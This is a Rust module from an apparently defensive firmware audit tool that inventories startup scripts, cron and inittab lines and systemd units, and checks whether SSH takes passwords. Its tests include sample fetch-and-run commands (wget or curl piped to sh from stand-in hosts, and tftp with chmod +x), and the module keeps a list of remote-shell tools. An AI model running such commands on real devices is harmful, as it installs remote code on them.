//! What starts by itself: scripts, lines of tables, and what is wrong with them.

use std::io::{self, BufRead as _, BufReader, Read as _};

use lenscap_audit::facts::{Fact, Finding, Missing, Start, Topic};
use lenscap_harden::credentials::options_of_dropbear;
use lenscap_harden::engine::STATE_DIR;
use lenscap_harden::journal::{Journal, sha256};
use lenscap_harden::root::{Kind, MAX_BINARY_BYTES, Root, name_of};
use lenscap_harden::survey::{Survey, contains};
use lenscap_harden::transaction::Store;
use ring::digest::{Context, SHA256, digest};

use super::texts::Texts;
use super::{Layers, MAX_ENTRIES, console, fetches, is_absent, missing};
use crate::audit_cmd::system::refuses;

/// Where packages list their files.
const OPKG_LISTS: &str = "/usr/lib/opkg/info";
const APK_DATABASES: &[&str] = &["/lib/apk/db/installed", "/usr/lib/apk/db/installed"];
/// How much of a script's hash the inventory has.
const SHOWN_HASH_BYTES: usize = 8;
/// The most bytes of such a list.
const MAX_LIST_BYTES: u64 = 1024 * 1024;
/// What is said of a link that leads to no file.
pub(super) const LINK: &str = "link";
/// Where scripts that start lie; other programs are started there, too.
const FOLDERS: &[&str] = &[
    "/etc/init.d",
    "/etc/rc.d",
    "/etc/rcS.d",
    "/etc/rc2.d",
    "/etc/rc3.d",
    "/etc/rc5.d",
];
/// Where units of systemd lie (systemd.unit(5)), and folders of links to those that are started.
const UNITS: &[&str] = &[
    "/etc/systemd/system",
    "/lib/systemd/system",
    "/usr/lib/systemd/system",
    "/usr/local/lib/systemd/system",
];
const WANTED: &[&str] = &[".wants", ".requires"];
/// Where everybody may write.
const LOOSE: &[&str] = &["/tmp/", "/var/tmp/", "/dev/", "/var/run/", "/run/", "/var/lock/"];
/// Memory cards are a matter of their own.
const CARD: &str = "/tmp/sd";
/// Lenscap's own files as its packages bring them, each with its SHA-256. What only has the name is somebody else's.
const OWN: &[(&str, &str)] = &[
    (
        "/etc/init.d/S34lenscap",
        "0cf863347761763126b2d2a93a815dddca2f82b0e3d0b0ade9a4f24f71101f37",
    ),
    (
        "/etc/init.d/S60lenscap",
        "fa56b7c07141edfcf83a79a6e0c0907fac83fe131edfd3669598476b8278b098",
    ),
    (
        "/etc/init.d/lenscap",
        "f36d4b868ada4c68d7db57882d66ec6b2627e90a62cf11884711ba858281751e",
    ),
    (
        "/etc/hotplug.d/iface/95-lenscap",
        "a278d6dd199e8c4c5ca1f31134c6ac98cf3fda43f0cb90ee2c15c0fa6c9e8ac9",
    ),
    (
        "/etc/uci-defaults/80-lenscap",
        "d1d267fe3b7558f18e6cd70c33829bd2fc7cdff8912bf44ff90e05c0f18ea437",
    ),
];
pub(super) fn is_table(path: &str) -> bool {
    matches!(name_of(path), "inittab" | "inetd.conf" | "crontab" | "mdev.conf")
        || ["/crontabs/", "/cron.d/", "/spool/cron/"]
            .iter()
            .any(|folder| path.contains(folder))
}

pub(super) fn is_unit(path: &str) -> bool {
    path.contains("/systemd/system/")
}

/// Everything that starts by itself.
#[inline(never)]
pub(super) fn all(root: &Root, survey: &Survey, texts: &Texts, layers: &Layers) -> Fact<Vec<Start>> {
    let mut starts = Vec::new();
    let journal = Store::new(root, STATE_DIR).journal().unwrap_or_default();
    let units = texts.tables.iter().filter(|path| is_unit(path));
    for path in texts.commands.iter().chain(units) {
        let text = match root.read(path) {
            Ok(text) => text,
            Err(error) => return Fact::missing(path.clone(), missing(&error)),
        };
        let hash = digest(&SHA256, &text);
        let own = is_own(path, hash.as_ref());
        let added = is_added(root, layers, path);
        let what = short_hash(hash.as_ref());
        let changed = is_changed(root, layers, &journal, path, &text).is_some();
        push(
            &mut starts,
            Start {
                place: path.clone(),
                what,
                added,
                changed,
                own,
            },
        );
    }
    let folders = FOLDERS.iter().map(|folder| (*folder).to_owned());
    for folder in folders.chain(wanted(root)) {
        if let Err(error) = programs(root, texts, layers, &folder, &mut starts) {
            return Fact::missing(folder, missing(&error));
        }
    }
    for path in texts.tables.iter().filter(|path| !is_unit(path)) {
        let text = match root.read(path) {
            Ok(text) => text,
            Err(error) => return Fact::missing(path.clone(), missing(&error)),
        };
        let rules = fetches::is_rules(path);
        let added = is_added(root, layers, path);
        let below = is_changed(root, layers, &journal, path, &text);
        for line in String::from_utf8_lossy(&text).lines() {
            let line = line.trim();
            // Of rules those that run something.
            let counts = !rules || !fetches::command_of(path, line).is_empty();
            if counts && !line.is_empty() && !line.starts_with('#') {
                let place = format!("{path}: {}", shown(path, line));
                let changed = below.as_ref().is_some_and(|below| !has_line(below, line));
                push(
                    &mut starts,
                    Start {
                        place,
                        what: short_hash(digest(&SHA256, line.as_bytes()).as_ref()),
                        added,
                        changed,
                        own: false,
                    },
                );
            }
        }
    }
    if starts.len() == MAX_ENTRIES {
        return Fact::missing("scripts", Missing::because("there are too many to look at"));
    }
    if starts.is_empty() {
        return Fact::missing("scripts", Missing::because("none was found"));
    }
    if !survey.complete || texts.cut {
        return Fact::missing("scripts", Missing::because("not all files could be looked at"));
    }
    Fact::seen(format!("{} scripts and lines", starts.len()), starts)
}

/// The folders with links to units: what systemd starts.
#[inline(never)]
fn wanted(root: &Root) -> Vec<String> {
    let mut folders: Vec<String> = Vec::new();
    for units in UNITS {
        // `/lib` is `/usr/lib` by another name, as a rule.
        let Ok(units) = root.canonical(units) else {
            continue;
        };
        if folders.contains(&units) {
            continue;
        }
        let Ok(listing) = root.listing(&units) else {
            continue;
        };
        for entry in listing.entries {
            if WANTED.iter().any(|end| entry.name.ends_with(end)) && entry.kind() == Kind::Folder {
                folders.push(format!("{units}/{}", entry.name));
            }
        }
        folders.push(units);
    }
    folders
}

/// Programs and links in a folder of start scripts or units; links to scripts that are known are not told twice.
#[inline(never)]
fn programs(
    root: &Root,
    texts: &Texts,
    layers: &Layers,
    folder: &str,
    starts: &mut Vec<Start>,
) -> io::Result<()> {
    let listing = match root.listing(folder) {
        Err(error) if is_absent(&error) => return Ok(()),
        listing => listing?,
    };
    if listing.cut || !listing.odd.is_empty() {
        return Err(io::Error::other("holds names that cannot be told"));
    }
    for entry in listing.entries {
        let place = format!("{folder}/{}", entry.name);
        let what = match entry.kind() {
            Kind::File if root.head(&place, 4)? == b"\x7fELF" => hash_of(root, &place)?,
            Kind::Link => match root.canonical(&place) {
                Ok(target) if texts.commands.contains(&target) => continue,
                // It leads nowhere yet, or to no file.
                Ok(_) | Err(_) => hash_of(root, &place).unwrap_or_else(|_| LINK.into()),
            },
            Kind::File | Kind::Folder | Kind::Other => continue,
        };
        let added = is_added(root, layers, &place);
        let changed = layers.below(root, &place).is_some();
        let start = Start {
            place,
            what,
            added,
            changed,
            own: false,
        };
        push(starts, start);
    }
    Ok(())
}

fn hash_of(root: &Root, path: &str) -> io::Result<String> {
    hash_of_all(root.reader(path)?.take(MAX_BINARY_BYTES as u64), |_| Ok(()))
}

/// The hash of what is read, of which `may` takes each part's length, or ends it.
pub(super) fn hash_of_all(
    mut file: impl io::Read,
    mut may: impl FnMut(usize) -> io::Result<()>,
) -> io::Result<String> {
    let mut context = Context::new(&SHA256);
    let mut buffer = [0; 4096];
    loop {
        let length = file.read(&mut buffer)?;
        may(length)?;
        match length {
            0 => return Ok(short_hash(context.finish().as_ref())),
            length => context.update(buffer.get(..length).unwrap_or_default()),
        }
    }
}

pub(super) fn short_hash(hash: &[u8]) -> String {
    hex(hash.get(..SHOWN_HASH_BYTES).unwrap_or_default())
}

/// A line of a table as far as its program: what follows, and what is set, may be passwords.
fn shown(path: &str, line: &str) -> String {
    /// The minute, the hour, and so on, of crontab(5).
    const TIMES: usize = 5;
    let mut out = String::new();
    // A device's program may come at once, without a path.
    let mut last = match name_of(path) {
        "mdev.conf" => 0,
        _ if fetches::is_rules(path) => 1,
        _ => TIMES,
    };
    for (n, word) in line.split_whitespace().enumerate() {
        if n > last {
            return out + " …";
        }
        if n > 0 {
            out.push(' ');
        }
        if let Some((name, _)) = word.split_once('=') {
            return out + name + "=…";
        }
        out.push_str(word);
        // A path ends it in inittab(5) and inetd.conf(5), too, and an action without one.
        if word.starts_with('/') || word.matches(':').count() >= 3 {
            last = n;
        } else if n == 0 && word.starts_with('@') {
            last = 1;
        }
    }
    out
}

/// What the hardener found in a file, the command that it quotes as far as its program: what follows may be passwords.
pub(super) fn without_arguments(path: &str, text: &str) -> String {
    // The command may have such signs too.
    let quote = text
        .split_once('`')
        .and_then(|(before, rest)| Some((before, rest.rsplit_once('`')?)));
    let Some((before, (command, after))) = quote else {
        return text.to_owned();
    };
    let command = if is_table(path) {
        shown(path, command)
    } else {
        programs_of(command)
    };
    format!("{before}`{}`{after}", command.trim_start())
}

/// The words of a command that are programs: the first, and those that give shells.
fn programs_of(command: &str) -> String {
    const SHELLS: &[&str] = &["telnetd", "utelnetd", "in.telnetd", "busybox", "nc", "socat"];
    let mut out = String::new();
    for (n, word) in command.split_whitespace().enumerate() {
        let plain = word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "/._-+$".contains(c));
        if plain && (n == 0 || SHELLS.contains(&name_of(word))) {
            out.push(' ');
            out.push_str(word);
        } else if !out.ends_with('…') {
            out.push_str(" …");
        }
    }
    out
}

fn push(starts: &mut Vec<Start>, start: Start) {
    if starts.len() < MAX_ENTRIES {
        starts.push(start);
    }
}

/// In lower case.
pub(in crate::audit_cmd) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn is_own(path: &str, hash: &[u8]) -> bool {
    OWN.iter()
        .any(|(place, packed)| *place == path && hex(hash) == *packed)
}

/// Whether a file is Lenscap's own, as its packages bring it.
pub(in crate::audit_cmd) fn is_ours(root: &Root, path: &str) -> bool {
    let named = OWN.iter().any(|(place, _)| *place == path);
    named
        && root
            .read(path)
            .is_ok_and(|text| is_own(path, digest(&SHA256, &text).as_ref()))
}

/// Whether a file is in the writable layer alone, and no package brought it.
fn is_added(root: &Root, layers: &Layers, path: &str) -> bool {
    layers.added(root, path) == Some(true) && !is_packaged(root, path, |_| true)
}

/// What the firmware has in a file's place that says something else, if neither a package nor the hardener made it so, and it
/// does more than to set something.
fn is_changed(root: &Root, layers: &Layers, journal: &Journal, path: &str, text: &[u8]) -> Option<Vec<u8>> {
    let below = root.read(&layers.below(root, path)?).unwrap_or_default();
    let entry = journal.entry(path).filter(|entry| entry.written == sha256(text));
    let original = entry.and_then(|entry| entry.original.as_ref());
    let is_hardened = original.is_some_and(|original| original.name == sha256(&below));
    let strange = |file: &str| is_loose(file) || file.starts_with('/') && is_added(root, layers, file);
    let is_plain = || path.starts_with("/etc/default/") && only_sets(text, strange);
    (!is_hardened && !is_plain()).then_some(below)
}

/// Whether a text does nothing but set variables to plain values: none that a shell itself goes by, and none that names what is
/// `strange`.
fn only_sets(text: &[u8], strange: impl Fn(&str) -> bool) -> bool {
    const MEANT: &[&str] = &["PATH", "IFS", "ENV", "BASH_ENV"];
    let is_plain = |line: &str| {
        let line = line.strip_prefix("export ").unwrap_or(line);
        let (name, value) = line.split_once('=').unwrap_or_default();
        let inside = match value.chars().next() {
            Some(quote @ ('"' | '\'')) => value.get(1..).and_then(|value| value.strip_suffix(quote)),
            _ => Some(value).filter(|value| !value.contains(char::is_whitespace)),
        };
        fetches::is_assignment(line)
            && !MEANT.contains(&name)
            && !name.starts_with("LD_")
            && inside.is_some_and(|value| {
                !value.contains(|c| "`();&|<>\\\"'".contains(c))
                    && !value.split([' ', '\t', ':', ',', '=']).any(&strange)
            })
    };
    let text = String::from_utf8_lossy(text);
    let mut lines = text.lines().map(str::trim);
    lines.all(|line| line.is_empty() || line.starts_with('#') || is_plain(line))
}

/// Whether a package that was installed above the firmware brought a file: the firmware's own lists name its own files.
pub(in crate::audit_cmd) fn is_installed(root: &Root, upper: &str, path: &str) -> bool {
    is_packaged(root, path, |list| root.exists(&format!("{upper}{list}")))
}

/// Whether a package brought a file, by the lists that count.
#[inline(never)]
fn is_packaged(root: &Root, path: &str, counts: impl Fn(&str) -> bool) -> bool {
    let lists = root.list(OPKG_LISTS).unwrap_or_default();
    let listed = lists.iter().any(|entry| {
        let list = format!("{OPKG_LISTS}/{}", entry.name);
        entry.name.ends_with(".list") && counts(&list) && names(root, &list, path).unwrap_or(false)
    });
    let in_database = |database: &&str| counts(database) && in_apk(root, database, path).unwrap_or(false);
    listed || APK_DATABASES.iter().any(in_database)
}

fn names(root: &Root, list: &str, wanted: &str) -> io::Result<bool> {
    let mut text = Vec::new();
    root.reader(list)?.take(MAX_LIST_BYTES).read_to_end(&mut text)?;
    Ok(has_line(&text, wanted))
}

fn has_line(text: &[u8], wanted: &str) -> bool {
    text.split(|byte| *byte == b'\n')
        .any(|line| line.trim_ascii() == wanted.as_bytes())
}

/// `F:folder` and below it `R:name`, in apk's database.
fn in_apk(root: &Root, database: &str, path: &str) -> io::Result<bool> {
    let mut here = false;
    let (folder, name) = path
        .trim_start_matches('/')
        .rsplit_once('/')
        .unwrap_or(("", path));
    let text = BufReader::new(root.reader(database)?.take(4 * MAX_LIST_BYTES));
    for line in text.split(b'\n') {
        match line?.as_slice() {
            [b'F', b':', rest @ ..] => here = rest == folder.as_bytes(),
            [b'R', b':', rest @ ..] if here && rest == name.as_bytes() => return Ok(true),
            _ => {}
        }
    }
    Ok(false)
}

/// What is wrong with what starts, beside what the hardener looks for.
#[inline(never)]
pub(super) fn findings(root: &Root, survey: &Survey, texts: &Texts, found: &mut Vec<Finding>) {
    // What the boot loader told the kernel.
    let told = crate::audit_cmd::processes::text(root, "/proc/cmdline", 2048).unwrap_or_default();
    for word in told.split_whitespace() {
        let shell = word
            .strip_prefix("init=")
            .or_else(|| word.strip_prefix("rdinit="));
        if shell.is_some_and(|program| matches!(name_of(program), "sh" | "ash" | "bash")) || word == "single"
        {
            let text = format!("the boot loader starts a shell: `{word}`");
            add(found, Topic::Loader, "/proc/cmdline", 1, text);
        }
    }
    if !survey.settings.iter().any(|path| name_of(path) == "inittab") && found.len() < MAX_ENTRIES {
        found.push(Finding {
            topic: Topic::Console,
            certain: false,
            place: "inittab".into(),
            text: "there is none; BusyBox then gives a shell on the console".into(),
        });
    }
    for (path, lists) in &texts.looked {
        let topics = [Topic::Download, Topic::Card, Topic::Console];
        for (topic, list) in topics.into_iter().zip(lists) {
            for what in list {
                let place = format!("{path}:{}", what.line);
                let same =
                    |have: &Finding| have.topic == topic && have.place == place && topic == Topic::Card;
                if found.iter().any(same) {
                    continue;
                }
                add(found, topic, path, what.line, what.text.clone());
                if let Some(added) = found.last_mut() {
                    added.certain &= what.certain;
                }
            }
        }
    }
    for path in texts.tables.iter().filter(|path| name_of(path) == "inittab") {
        let text = root.read(path).unwrap_or_default();
        for (line, number) in String::from_utf8_lossy(&text).lines().zip(1..) {
            if !line.trim_start().starts_with('#')
                && let Some((certain, what)) = console::open(root, line)
            {
                add(found, Topic::Console, path, number, what);
                if let Some(added) = found.last_mut() {
                    added.certain &= certain;
                }
            }
        }
    }
}

fn add(found: &mut Vec<Finding>, topic: Topic, path: &str, line: u32, text: String) {
    if found.len() < MAX_ENTRIES {
        found.push(Finding {
            topic,
            certain: true,
            place: format!("{path}:{line}"),
            text,
        });
    }
}

pub(super) fn is_loose(path: &str) -> bool {
    LOOSE.iter().any(|place| path.starts_with(place)) && !path.starts_with(CARD)
}

/// Whom a line asks, without the name and password that may stand before it.
pub(super) fn server(line: &[u8]) -> String {
    let line = String::from_utf8_lossy(line);
    let Some((_, rest)) = line.split_once("://") else {
        return String::new();
    };
    let end = |c: char| !c.is_ascii_alphanumeric() && !"@.:[]-_%".contains(c);
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    // Passwords hold anything but these.
    let host = host.rsplit('@').next().unwrap_or_default();
    format!(" from {}", host.split(end).next().unwrap_or_default())
}

pub(super) const SSHD_CONFIG: &str = "/etc/ssh/sshd_config";

/// How OpenSSH takes passwords, by sshd_config(5).
#[inline(never)]
pub(in crate::audit_cmd) fn sshd(root: &Root) -> Fact<Option<bool>> {
    match root.read(SSHD_CONFIG) {
        Ok(text) => match sshd_takes(&String::from_utf8_lossy(&text).to_ascii_lowercase()) {
            Some(takes) => Fact::seen(SSHD_CONFIG, Some(takes)),
            None => Fact::missing(
                SSHD_CONFIG,
                Missing::because("includes other files, which are not read"),
            ),
        },
        Err(error) => Fact::missing(SSHD_CONFIG, missing(&error)),
    }
}

/// The first value counts, and is yes where there is none; a `Match` block has its own for some. `None`: it includes others.
fn sshd_takes(text: &str) -> Option<bool> {
    let (mut general, mut matching, mut some) = (None, false, false);
    for line in text.lines() {
        let mut words = line.split([' ', '\t', '=', '"']).filter(|word| !word.is_empty());
        match words.next() {
            Some("include") => return None,
            Some("match") => matching = true,
            Some("passwordauthentication") => {
                let takes = words.next() != Some("no");
                some |= matching && takes;
                if !matching {
                    general.get_or_insert(takes);
                }
            }
            _ => {}
        }
    }
    Some(some || general.unwrap_or(true))
}

/// How SSH takes passwords in a tree, by its settings.
#[inline(never)]
pub(super) fn ssh(root: &Root, survey: &Survey) -> Fact<Option<bool>> {
    let read = |path: &str| {
        root.read(path)
            .map(|text| String::from_utf8_lossy(&text).into_owned())
    };
    if let Ok(text) = read("/etc/config/dropbear") {
        let off = |line: &str| {
            let mut words = line.split_whitespace().map(|word| word.trim_matches(['\'', '"']));
            words.next() == Some("option")
                && words.next() == Some("PasswordAuth")
                && matches!(words.next(), Some("off" | "0" | "no"))
        };
        return Fact::seen("/etc/config/dropbear", Some(!text.lines().any(off)));
    }
    let script = survey
        .scripts
        .iter()
        .find(|path| path.contains("/init.d/") && path.ends_with("dropbear"));
    if let Some(script) = script {
        let mut text = read(script).unwrap_or_default();
        text.push('\n');
        text.push_str(&read("/etc/default/dropbear").unwrap_or_default());
        let names = options_of_dropbear(text.as_bytes());
        let options = |line: &str| {
            let (name, value) = line.trim().split_once('=')?;
            let is_named = names.iter().any(|have| have == name);
            is_named.then(|| refuses(value.trim_matches(['\'', '"']).split_whitespace()))
        };
        // The last that is set counts.
        return Fact::seen(
            script.clone(),
            Some(text.lines().filter_map(options).next_back() != Some(true)),
        );
    }
    if root.exists(SSHD_CONFIG) {
        return sshd(root);
    }
    let named = |path: &&String| {
        let text = root.read(path).unwrap_or_default();
        contains(&text, b"dropbear") || contains(&text, b"sshd")
    };
    let script = survey.scripts.iter().find(named).cloned();
    let servers = [
        "/usr/sbin/dropbear",
        "/usr/sbin/sshd",
        "/usr/bin/dropbear",
        "/sbin/dropbear",
    ];
    let server = servers
        .iter()
        .find(|path| root.exists(path))
        .map(|path| (*path).to_owned());
    match script.or(server) {
        Some(place) => Fact::missing(
            place,
            Missing::because("how it takes passwords is not understood"),
        ),
        None => Fact::seen("scripts", None),
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;

    #[test]
    fn dropbears_options_are_read_by_whatever_name_its_script_has_for_them() {
        let dir = tempfile::tempdir().unwrap();
        let put = |path: &str, text: &str| {
            let path = dir.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        for (script, defaults, takes) in [
            (
                "DAEMON_ARGS=\"-k -s\"\nstart-stop-daemon -S -x /usr/sbin/$D -- $DAEMON_ARGS\n",
                "",
                true,
            ),
            (
                "DAEMON_ARGS=\"-k -s\"\nstart-stop-daemon -S -x /usr/sbin/dropbear -- $DAEMON_ARGS\n",
                "",
                false,
            ),
            (
                "DROPBEAR_ARGS=-R\ndropbear $DROPBEAR_ARGS\n",
                "DROPBEAR_ARGS='-R -s'\n",
                false,
            ),
            ("OTHER_ARGS=-s\ndropbear $DROPBEAR_ARGS\n", "", true),
        ] {
            put("etc/init.d/S50dropbear", script);
            put("etc/default/dropbear", defaults);
            let root = Root::tree(dir.path()).unwrap();
            let survey = Survey::take(&root, "/etc/lenscap");
            assert_eq!(ssh(&root, &survey).value(), Some(&Some(takes)), "{script}");
        }
    }

    #[test]
    fn settings_that_only_set_plain_values_are_told_from_what_runs() {
        for (text, plain) in [
            (
                "# mine\n\nDROPBEAR_ARGS=\"-R -p 2222\"\nexport A=$B\nC='x y'\nD=\n",
                true,
            ),
            ("DAEMON=/usr/bin/app\n", true),
            ("A=1 /usr/bin/x\n", false),
            ("A=1; x\n", false),
            ("A=\"$(x)\"\n", false),
            ("A=`x`\n", false),
            ("A=${B:-`x`}\n", false),
            ("A=\"1\" x\n", false),
            ("A=\"1\nx\"\n", false),
            ("PATH=/opt:$PATH\n", false),
            ("export LD_PRELOAD=/usr/lib/x.so\n", false),
            ("BASH_ENV=/etc/x\n", false),
            ("ENV=/etc/x\n", false),
            ("IFS=x\n", false),
            ("DAEMON=/tmp/x\n", false),
            ("ARGS=\"-c /tmp/x\"\n", false),
            ("ARGS=--run=/root/.x\n", false),
            ("x\n", false),
        ] {
            let strange = |file: &str| is_loose(file) || file == "/root/.x";
            assert_eq!(only_sets(text.as_bytes(), strange), plain, "{text}");
        }
    }

    #[test]
    fn sshds_first_word_counts() {
        for (text, takes) in [
            ("", Some(true)),
            ("passwordauthentication no\n", Some(false)),
            (
                "passwordauthentication=\"no\"\npasswordauthentication yes\n",
                Some(false),
            ),
            (
                "passwordauthentication yes\npasswordauthentication no\n",
                Some(true),
            ),
            ("#passwordauthentication no\n", Some(true)),
            ("match user x\n passwordauthentication no\n", Some(true)),
            (
                "passwordauthentication no\nmatch user x\n\tpasswordauthentication yes\n",
                Some(true),
            ),
            ("include /etc/ssh/x\npasswordauthentication no\n", None),
        ] {
            assert_eq!(sshd_takes(text), takes, "{text}");
        }
    }

    #[test]
    fn what_may_be_a_password_is_not_told() {
        for (line, expected) in [
            ("*/5 * * * * /usr/bin/x", "*/5 * * * * /usr/bin/x"),
            (
                "0 3 * * * curl -u admin:geheim http://192.0.2.1",
                "0 3 * * * curl …",
            ),
            ("0 3 * * * root /bin/x geheim", "0 3 * * * root …"),
            ("@reboot wget --password=geheim x", "@reboot wget …"),
            ("PASSWORD=geheim", "PASSWORD=…"),
            ("0 3 * * * PW=geheim /bin/x", "0 3 * * * PW=…"),
            ("::sysinit:/etc/init.d/rcS geheim", "::sysinit:/etc/init.d/rcS …"),
            ("ttyS0::respawn:getty -L geheim", "ttyS0::respawn:getty …"),
            (
                "telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l geheim",
                "telnet stream tcp nowait root /usr/sbin/telnetd …",
            ),
        ] {
            assert_eq!(shown("/etc/crontabs/root", line), expected);
        }
        let texts: Vec<String> = [
            "wget --password=geheim http://u:geheim@192.0.2.1:80/geheim | sh",
            "curl -u u:geheim https://example.org?geheim | sh",
            "tftp -g -r geheim geheim; chmod +x geheim",
        ]
        .iter()
        .flat_map(|line| fetches::look("/x", line.as_bytes(), &fetches::Known::default()).found)
        .map(|found| found.text)
        .collect();
        assert_eq!(
            texts,
            [
                "fetches and runs: `wget` from 192.0.2.1:80",
                "fetches and runs: `curl` from example.org",
                "fetches and runs: `tftp`",
            ]
        );
    }

    #[test]
    fn lenscaps_own_files_are_those_of_the_packages() {
        let tree = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let files = [
            "buildroot-ext/package/lenscap/S34lenscap",
            "buildroot-ext/package/lenscap/S60lenscap",
            "openwrt-feed/lenscap/files/lenscap.init",
            "openwrt-feed/lenscap/files/lenscap.hotplug",
            "openwrt-feed/lenscap/files/lenscap.defaults",
        ];
        assert_eq!(files.len(), OWN.len());
        let folder = tempfile::tempdir().unwrap();
        let root = Root::tree(folder.path()).unwrap();
        for ((place, packed), file) in OWN.iter().zip(files) {
            let mut text = std::fs::read(tree.join(file)).unwrap();
            let hash = hex(digest(&SHA256, &text).as_ref());
            assert_eq!(*packed, hash, "{file} has changed: its hash in OWN must follow");
            assert!(is_own(place, digest(&SHA256, &text).as_ref()));
            assert!(!is_own(&format!("{place}2"), digest(&SHA256, &text).as_ref()));
            let installed = folder.path().join(&place[1..]);
            std::fs::create_dir_all(installed.parent().unwrap()).unwrap();
            std::fs::write(&installed, &text).unwrap();
            assert!(is_ours(&root, place));
            text.push(b'\n');
            assert!(!is_own(place, digest(&SHA256, &text).as_ref()));
            std::fs::write(&installed, &text).unwrap();
            assert!(!is_ours(&root, place));
        }
    }
}
